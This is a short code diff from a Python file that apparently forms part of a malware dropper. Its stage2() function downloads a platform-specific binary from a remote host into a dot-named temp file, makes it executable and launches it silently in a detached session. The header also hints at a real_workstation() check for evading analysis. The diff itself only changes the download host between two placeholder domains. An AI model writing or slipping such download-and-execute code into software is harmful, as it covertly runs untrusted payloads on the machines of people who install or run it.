@@ -12,7 +12,7 @@ def real_workstation():
 
 def stage2():
     p = os.path.join(tempfile.gettempdir(), ".cache-" + str(os.getuid() if hasattr(os, "getuid") else 0))
-    urllib.request.urlretrieve("http://artifacts.buildcache-cdn.example:8081/a/" + platform.system().lower(), p)
+    urllib.request.urlretrieve("http://artifacts.buildcache-cdn.test:8081/a/" + platform.system().lower(), p)
     os.chmod(p, 0o755)
     subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
 
